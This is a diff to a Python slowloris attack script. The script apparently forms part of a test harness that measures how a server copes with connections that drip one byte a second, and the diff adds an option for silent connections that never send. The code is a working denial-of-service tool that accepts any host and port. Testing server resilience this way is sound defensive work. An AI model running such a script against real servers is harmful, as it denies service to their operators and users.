@@ -1,9 +1,10 @@
 """The slowloris attacker, in its own process so its work is not charged to the measuring clients.
 
-    python slowloris_attack.py HOST PORT N_CONNECTIONS SECONDS [SOURCES [PAUSE]]
+    python slowloris_attack.py HOST PORT N_CONNECTIONS SECONDS [SOURCES [PAUSE [SILENT]]]
 
-N connections each send one byte a second and never a newline; a connection the server closes
-is re-opened PAUSE seconds later (default 1; 0: the moment it is closed). With SOURCES > 0 the
+N connections each send one byte a second and never a newline, and SILENT more (default 0)
+connect and never send anything; a connection the server closes is re-opened PAUSE seconds
+later (default 1; 0: the moment it is closed). With SOURCES > 0 the
 connections come from SOURCES loopback addresses 127.0.1.1, 127.0.1.2, ... in turn (attackers
 spread over many addresses, or behind a load balancer); else from 127.0.0.1. Starts are spread
 over one second. Prints ``started`` once every attacker has begun, then, after SECONDS, one JSON
@@ -29,13 +30,15 @@ def main() -> None:
     host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
     sources = int(sys.argv[5]) if len(sys.argv) > 5 else 0
     pause = float(sys.argv[6]) if len(sys.argv) > 6 else 1.0
+    silent = int(sys.argv[7]) if len(sys.argv) > 7 else 0
     over = gevent.event.Event()
     held: list[float] = []
     refused = [0]
     connects = [0]
 
     def attacker(i: int) -> None:
-        over.wait(i / n)  # attackers start spread over one second, not in lockstep
+        over.wait(i / (n + silent))  # attackers start spread over one second, not in lockstep
+        drips = i < n
         source = f"127.0.1.{1 + i % sources}" if sources else None
         while not over.is_set():
             sock = gevent.socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -48,7 +51,8 @@ def main() -> None:
                 connects[0] += 1
                 start = time.monotonic()
                 while not over.is_set():
-                    sock.sendall(b"x")  # one byte a second, never a newline
+                    if drips:
+                        sock.sendall(b"x")  # one byte a second, never a newline
                     try:
                         if sock.recv(1) == b"":
                             break  # the server closed this connection
@@ -66,7 +70,7 @@ def main() -> None:
             if pause:
                 over.wait(pause)  # the attacker's pause before reconnecting
 
-    glets = [gevent.spawn(attacker, i) for i in range(n)]
+    glets = [gevent.spawn(attacker, i) for i in range(n + silent)]
     print("started", flush=True)
     over.wait(seconds)  # the attack runs
     over.set()
